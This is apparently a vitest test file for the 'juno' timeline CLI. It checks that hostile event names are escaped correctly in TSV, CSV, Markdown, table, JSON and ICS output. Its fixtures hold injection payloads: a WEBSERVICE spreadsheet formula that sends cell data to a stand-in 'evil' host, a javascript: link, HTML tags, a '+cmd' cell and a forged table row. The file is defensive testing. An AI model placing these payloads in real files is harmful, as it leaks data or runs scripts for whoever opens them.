// What juno writes from a hostile timeline, byte for byte, in every format that shows its names: spreadsheet
// formulas behind quotes, Markdown links and HTML, unpaired surrogates, invisible characters, a line break in a
// week label, week names in other scripts and twice over.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runJuno } from '../helpers.js';

const WEBSERVICE = '"=WEBSERVICE(""https://evil/""&C2)"';
const LINKS =
  '[click](javascript:alert(1)) ![x](https://evil/x.png) <img src=x> &lt;b&gt; **b** `c` www.evil.example';
const FAMILY = '👨\u200d👩\u200d👧';

const TIMELINE = {
  series: 'evil',
  releaseWeek: '2014-10-13',
  events: [
    {
      id: 'webservice',
      name: WEBSERVICE,
      kind: 'other',
      start: '2014-09-01',
      week: 'R-6\n| forged | row |',
      location: '-5',
      project: '\t+cmd',
    },
    { id: 'links', name: LINKS, kind: 'other', start: '2014-09-02' },
    {
      id: 'surrogates',
      name: 'lone \ud800 high, \udc00 low, pair 😀',
      kind: 'other',
      start: '2014-09-03',
      week: '第一周',
    },
    {
      id: 'invisible',
      name: `zero\u200bwidth\u2060\ufeff tag\u{e0041}s iso\u2066late\u2069 ${FAMILY}`,
      kind: 'other',
      start: '2014-09-10',
      week: '第二周',
    },
    { id: 'twin', name: 'Twin', kind: 'other', start: '2014-09-17', week: '第二周' },
  ],
};

/** The names once cleaned: a U+FFFD for each unpaired surrogate, no invisible characters, joiners kept. */
const SURROGATES = 'lone \ufffd high, \ufffd low, pair 😀';
const INVISIBLE = `zerowidth tags isolate ${FAMILY}`;

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'juno-output-'));
  // JSON.stringify writes an unpaired surrogate as a \ud800 escape, as a hostile file would.
  writeFileSync(join(dir, 'hostile.json'), JSON.stringify(TIMELINE));
  writeFileSync(
    join(dir, 'hostile.yaml'),
    'series: y\nevents:\n  - { id: a, name: "bad \\ud800 \\uDC00 end", kind: other, start: "2014-09-04", week: "W\\u200b1" }\n',
  );
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function juno(...args: string[]): Promise<string> {
  const result = await runJuno(['--timeline', 'hostile.json', '--date', '2014-09-21', ...args], { cwd: dir });
  expect(result.stderr).toBe('');
  expect(result.code).toBe(0);
  return result.stdout;
}

describe.concurrent('schedule', () => {
  it('TSV: the quoted formula and the tabbed one are text, the week one line, -5 a number', async () => {
    expect(await juno('schedule', '--format', 'tsv')).toBe(
      [
        'id\tname\tkind\tstart\tend\tweek\tdaysUntil\tstatus\tconfidence\tproject\tlocation',
        `webservice\t'${WEBSERVICE}\tother\t2014-09-01\t2014-09-01\tR-6 | forged | row |\t-20\tpast\t\t' +cmd\t-5`,
        `links\t${LINKS}\tother\t2014-09-02\t2014-09-02\tR-6 | forged | row |\t-19\tpast\t\t\t`,
        `surrogates\t${SURROGATES}\tother\t2014-09-03\t2014-09-03\tR-6 | forged | row |\t-18\tpast\t\t\t`,
        `invisible\t${INVISIBLE}\tother\t2014-09-10\t2014-09-10\t第二周\t-11\tpast\t\t\t`,
        'twin\tTwin\tother\t2014-09-17\t2014-09-17\t第二周\t-4\tpast\t\t\t',
        '',
      ].join('\n'),
    );
  });

  it('CSV: the same cells, quoted as RFC 4180 asks', async () => {
    expect(await juno('schedule', '--format', 'csv')).toBe(
      [
        'id,name,kind,start,end,week,daysUntil,status,confidence,project,location',
        `webservice,"'""=WEBSERVICE(""""https://evil/""""&C2)""",other,2014-09-01,2014-09-01,R-6 | forged | row |,-20,past,,' +cmd,-5`,
        `links,${LINKS},other,2014-09-02,2014-09-02,R-6 | forged | row |,-19,past,,,`,
        `surrogates,"${SURROGATES}",other,2014-09-03,2014-09-03,R-6 | forged | row |,-18,past,,,`,
        `invisible,${INVISIBLE},other,2014-09-10,2014-09-10,第二周,-11,past,,,`,
        'twin,Twin,other,2014-09-17,2014-09-17,第二周,-4,past,,,',
        '',
      ].join('\r\n'),
    );
  });

  it('Markdown: no link, image, HTML, entity or emphasis, and no forged row', async () => {
    expect(await juno('schedule', '--format', 'markdown')).toBe(
      [
        '| Date | Week | Event | Kind | When |',
        '| --- | --- | --- | --- | --- |',
        '| Mon 1 Sep 2014 | R-6 \\| forged \\| row \\| | "=WEBSERVICE(""https\\://evil/""&amp;C2)" | other | 20 days ago |',
        '| Tue 2 Sep 2014 | R-6 \\| forged \\| row \\| | \\[click\\](javascript:alert(1)) \\!\\[x\\](https\\://evil/x.png) &lt;img src=x&gt; ' +
          '&amp;lt;b&amp;gt; \\*\\*b\\*\\* \\`c\\` www\\.evil.example | other | 19 days ago |',
        `| Wed 3 Sep 2014 | R-6 \\| forged \\| row \\| | ${SURROGATES} | other | 18 days ago |`,
        `| Wed 10 Sep 2014 | 第二周 | ${INVISIBLE} | other | 11 days ago |`,
        '| Wed 17 Sep 2014 | 第二周 | Twin | other | 4 days ago |',
        '',
      ].join('\n'),
    );
  });

  it('table: the week label on one line, wide week names padded by their columns', async () => {
    // The Event column is as wide as the longest name; a name is padded by the columns it takes (the
    // emoji of the family two each, its joiners none).
    const pad = (text: string, columns = text.length) => text + ' '.repeat(LINKS.length - columns);
    expect(await juno('schedule')).toBe(
      [
        'evil · today Sun 21 Sep 2014 (第二周)',
        '',
        `Date             Week                  ${pad('Event')}  Kind   When`,
        `Mon 1 Sep 2014   R-6 | forged | row |  ${pad(WEBSERVICE)}  other  20 days ago`,
        `Tue 2 Sep 2014   R-6 | forged | row |  ${LINKS}  other  19 days ago`,
        `Wed 3 Sep 2014   R-6 | forged | row |  ${pad(SURROGATES)}  other  18 days ago`,
        // 第二周 takes six columns of the Week column's twenty.
        `Wed 10 Sep 2014  第二周                ${pad(INVISIBLE, INVISIBLE.length - 2)}  other  11 days ago`,
        `Wed 17 Sep 2014  第二周                ${pad('Twin')}  other  4 days ago`,
        '',
      ].join('\n'),
    );
  });

  it('JSON: well-formed Unicode that any JSON reader takes', async () => {
    const text = await juno('schedule', '--format', 'json');
    expect(text).not.toMatch(/\\ud[89a-f]/i);
    const names = (JSON.parse(text) as { events: { name: string; week: string }[] }).events.map((e) => [
      e.name,
      e.week,
    ]);
    expect(names).toEqual([
      [WEBSERVICE, 'R-6\n| forged | row |'],
      [LINKS, 'R-6\n| forged | row |'],
      [SURROGATES, 'R-6\n| forged | row |'],
      [INVISIBLE, '第二周'],
      ['Twin', '第二周'],
    ]);
  });

  it('JSON from YAML escapes: the same', async () => {
    const result = await runJuno(['--timeline', 'hostile.yaml', '--format', 'json', '--date', '2014-09-21'], {
      cwd: dir,
    });
    expect(result.stderr).toBe('');
    const event = (JSON.parse(result.stdout) as { events: { name: string; week: string }[] }).events[0];
    expect(event).toMatchObject({ name: 'bad \ufffd \ufffd end', week: 'W1' });
  });
});

describe.concurrent('weeks', () => {
  it('table: one line per week, names padded by their columns', async () => {
    expect(await juno('weeks')).toBe(
      [
        'evil · today Sun 21 Sep 2014 (第二周)',
        '',
        '  Week                  Dates         Events',
        `  R-6 | forged | row |  1–5 Sep 2014  Mon ${WEBSERVICE}`,
        `                                      Tue ${LINKS}`,
        `                                      Wed ${SURROGATES}`,
        `  第二周                8–12 Sep      Wed ${INVISIBLE}`,
        '▶ 第二周                15–19 Sep     Wed Twin',
        '',
        '▶ this week · … began earlier',
        '',
      ].join('\n'),
    );
  });

  it('Markdown: the current week in bold, its name escaped', async () => {
    expect(await juno('weeks', '--format', 'markdown')).toBe(
      [
        '| Week | Dates | Events |',
        '| --- | --- | --- |',
        '| R-6 \\| forged \\| row \\| | 1–5 Sep 2014 | "=WEBSERVICE(""https\\://evil/""&amp;C2)"; ' +
          '\\[click\\](javascript:alert(1)) \\!\\[x\\](https\\://evil/x.png) &lt;img src=x&gt; &amp;lt;b&amp;gt; ' +
          `\\*\\*b\\*\\* \\\`c\\\` www\\.evil.example; ${SURROGATES} |`,
        `| 第二周 | 8–12 Sep 2014 | ${INVISIBLE} |`,
        '| **第二周** (this week) | 15–19 Sep 2014 | Twin |',
        '',
      ].join('\n'),
    );
  });
});

describe('export --weeks', () => {
  it('gives each week a UID of its own from its Monday, and the name every view gives it', async () => {
    // Unfolded (RFC 5545 3.1), so that a long summary is read whole.
    const ics = (await juno('export', '--weeks')).replace(/\r\n[ \t]/g, '');
    const entries = [...ics.matchAll(/^UID:(.*)\r\n[\s\S]*?^SUMMARY:(.*)\r\n/gm)].map(([, uid, summary]) => [
      uid,
      summary,
    ]);
    const text = (value: string) => value.replace(/[\\;,]/g, (c) => `\\${c}`);
    expect(entries).toEqual([
      // Three events of one week, two of them naming it: one entry, under the first name given.
      [
        'week-2014-09-01@evil.weeks.juno.openstack',
        text(`Evil R-6 | forged | row |: ${[WEBSERVICE, LINKS, SURROGATES].join(', ')}`),
      ],
      ['week-2014-09-08@evil.weeks.juno.openstack', `Evil 第二周: ${INVISIBLE}`],
      ['week-2014-09-15@evil.weeks.juno.openstack', 'Evil 第二周: Twin'],
    ]);
  });
});
